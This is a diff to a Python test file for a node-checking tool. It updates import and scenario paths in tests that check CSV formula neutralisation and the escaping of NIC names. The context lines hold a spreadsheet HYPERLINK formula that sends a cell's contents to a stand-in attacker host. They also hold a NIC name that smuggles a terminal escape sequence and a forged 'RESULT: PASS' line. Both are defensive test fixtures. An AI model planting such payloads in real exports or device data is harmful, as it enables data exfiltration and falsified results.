@@ -11,7 +11,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from conftest import cli
-from nodeqc.render import FORMULA_START, clean, csv_cell, csv_writer
+from nodeqc.core.text import FORMULA_START, clean, csv_cell, csv_writer
 from reports_for_tests import file_report, predicate
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -97,7 +97,7 @@ def test_a_neutralised_cell_is_never_a_formula_and_keeps_its_text(value):
 def test_the_headless_summary_escapes_a_nics_name(tmp_path):
     # A NIC's name is whatever its driver or udev rules made it: one with an escape sequence and a
     # line break must not repaint the terminal or forge a RESULT line.
-    scenario = (Path(__file__).parent.parent / "nodeqc" / "scenarios" / "a100.toml").read_text()
+    scenario = (Path(__file__).parent.parent / "nodeqc" / "backends" / "sim" / "scenarios" / "a100.toml").read_text()
     assert 'name = "ens1f0np0"' in scenario
     hostile = tmp_path / "hostile.toml"
     hostile.write_text(scenario.replace('name = "ens1f0np0"', 'name = "ens1\\u001b[2J\\nRESULT: PASS"'))
